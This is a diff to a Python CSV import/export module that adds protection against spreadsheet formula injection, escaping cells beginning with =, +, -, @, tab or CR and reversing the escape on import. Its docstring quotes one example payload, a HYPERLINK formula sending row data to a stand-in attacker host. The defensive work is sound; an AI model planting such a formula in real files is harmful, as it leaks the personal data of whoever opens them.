@@ -7,8 +7,14 @@ the same validators the facade applies before sending, so a file that passes her
 fail validation halfway through an import. Line numbers are 1-based physical lines including
 the header (a quoted field spanning lines counts every line), as an editor shows them.
 
-Output files are written atomically (``gototraining._files.atomic_write``): whoever reads one --
-a person after Ctrl-C, or the next run -- sees a complete file, never a torn one.
+Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or tab / CR) as a
+formula, and names come from strangers: ``=HYPERLINK("https://evil.example/?d="&B2,"Open")`` as
+a given name would leak the row to anyone who opens the export (OWASP "CSV injection"). Every
+cell this module writes therefore goes through :func:`guard_cell`, which prefixes such a cell
+with ``'`` (spreadsheets then show it as text), unless the caller asks for raw cells. The
+guard is reversible: :func:`unguard_cell` undoes it exactly, and :func:`read_people` applies it,
+so an exported roster can be imported again unchanged. Where the bytes go (a file replaced
+atomically, a pipe, stdout) is ``outputs``' business.
 """
 
 from __future__ import annotations
@@ -16,27 +22,79 @@ from __future__ import annotations
 import csv
 import io
 import re
-import sys
 from collections.abc import Iterable, Sequence
 from pathlib import Path
+from typing import IO
 
 import attrs
 
 from gototraining import Registrant, ValidationError
 from gototraining._builders.registrants import PersonField, person_field
-from gototraining._files import atomic_write
 
 __all__ = [
+    "FORMULA_TRIGGERS",
     "RESULT_FIELDS",
     "ROSTER_FIELDS",
     "BadRow",
+    "CsvWriter",
     "PeopleFile",
     "Person",
     "Result",
+    "csv_bytes",
+    "guard_cell",
     "read_people",
-    "write_csv_atomic",
-    "write_roster",
+    "roster_rows",
+    "unguard_cell",
 ]
+
+#: First characters that make a spreadsheet evaluate a cell (OWASP CSV injection).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def guard_cell(value: str) -> str:
+    """``value``, prefixed with ``'`` if a spreadsheet would run it as a formula.
+
+    Values that already start with quotes before a trigger get one more, so that
+    :func:`unguard_cell` restores every value exactly.
+    """
+    return "'" + value if value.lstrip("'").startswith(FORMULA_TRIGGERS) else value
+
+
+def unguard_cell(value: str) -> str:
+    """The inverse of :func:`guard_cell`."""
+    if value.startswith("'") and value.lstrip("'").startswith(FORMULA_TRIGGERS):
+        return value[1:]
+    return value
+
+
+class CsvWriter:
+    """``csv.writer`` with ``\\n`` line ends that also quotes a cell holding a bare CR
+    (``csv`` quotes only the characters of its line terminator; an unquoted CR would end the
+    record for every reader), and guards cells against formulas unless ``raw``."""
+
+    def __init__(self, stream: IO[str], *, raw: bool = False) -> None:
+        self.raw = raw
+        self._minimal = csv.writer(stream, lineterminator="\n")
+        self._quote_all = csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_ALL)
+
+    def writerow(self, row: Sequence[str], *, header: bool = False) -> None:
+        """Write one record (a ``header`` is never guarded)."""
+        cells = row if self.raw or header else [guard_cell(cell) for cell in row]
+        if any("\r" in cell for cell in cells):
+            self._quote_all.writerow(cells)
+        else:
+            self._minimal.writerow(cells)
+
+
+def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[str]], *, raw: bool = False) -> bytes:
+    """A whole CSV document (UTF-8, ``\\n`` line ends); cells guarded unless ``raw``."""
+    buffer = io.StringIO(newline="")
+    writer = CsvWriter(buffer, raw=raw)
+    writer.writerow(header, header=True)
+    for row in rows:
+        writer.writerow(row)
+    return buffer.getvalue().encode("utf-8")
+
 
 # Normalised header (lowercase, letters only) -> canonical column.
 _ALIASES = {
@@ -101,21 +159,26 @@ def _check(value: str | None, name: PersonField) -> str | None:
 
 
 def _cell(row: list[str], columns: dict[str, int], name: str) -> str | None:
-    """The stripped value of column ``name``; ``None`` if the row is too short to have it."""
+    """The stripped, unguarded value of column ``name``; ``None`` if the row is too short."""
     i = columns[name]
-    return row[i].strip() if i < len(row) else None
+    return unguard_cell(row[i].strip()) if i < len(row) else None
 
 
-def read_people(path: Path) -> PeopleFile:
-    """Read and validate every row of a people CSV.
+def read_people(path: Path, text: str | None = None) -> PeopleFile:
+    """Read and validate every row of a people CSV (``text``: its content, already read;
+    ``path`` then only names it in messages).
+
+    A cell guarded against formula injection (``'=...``, as :func:`guard_cell` writes it) is
+    read as the value it guards.
 
     Raises:
         ValueError: the file as a whole is unusable (missing columns, not CSV, no rows);
             the message is meant for the user.
         OSError: it cannot be read.
     """
-    with path.open(newline="", encoding="utf-8-sig") as fh:
-        text = fh.read()
+    if text is None:
+        with path.open(newline="", encoding="utf-8-sig") as fh:
+            text = fh.read()
     reader = csv.reader(io.StringIO(text, newline=""))
     columns: dict[str, int] | None = None
     people: list[Person] = []
@@ -215,16 +278,6 @@ class Result:
         ]
 
 
-def write_csv_atomic(path: Path, header: Sequence[str], rows: Iterable[Sequence[str]]) -> None:
-    """Write a CSV file atomically (``gototraining._files.atomic_write``)."""
-    buffer = io.StringIO(newline="")
-    writer = csv.writer(buffer, lineterminator="\n")
-    writer.writerow(header)
-    writer.writerows(rows)
-    with atomic_write(path) as fh:
-        fh.write(buffer.getvalue().encode("utf-8"))
-
-
 #: Columns of ``registrants export``.
 ROSTER_FIELDS = (
     "registrant_key",
@@ -238,11 +291,11 @@ ROSTER_FIELDS = (
 )
 
 
-def write_roster(target: str, registrants: Sequence[Registrant]) -> None:
-    """Export a roster as CSV to a path (atomically) or to stdout (``-``)."""
+def roster_rows(registrants: Sequence[Registrant]) -> list[list[str]]:
+    """The rows of ``registrants export`` (columns :data:`ROSTER_FIELDS`), by surname."""
     from .output import fmt_iso
 
-    rows = [
+    return [
         [
             r.registrant_key,
             r.email,
@@ -255,9 +308,3 @@ def write_roster(target: str, registrants: Sequence[Registrant]) -> None:
         ]
         for r in sorted(registrants, key=lambda r: (r.surname.casefold(), r.given_name.casefold()))
     ]
-    if target == "-":
-        writer = csv.writer(sys.stdout, lineterminator="\n")
-        writer.writerow(ROSTER_FIELDS)
-        writer.writerows(rows)
-    else:
-        write_csv_atomic(Path(target), ROSTER_FIELDS, rows)
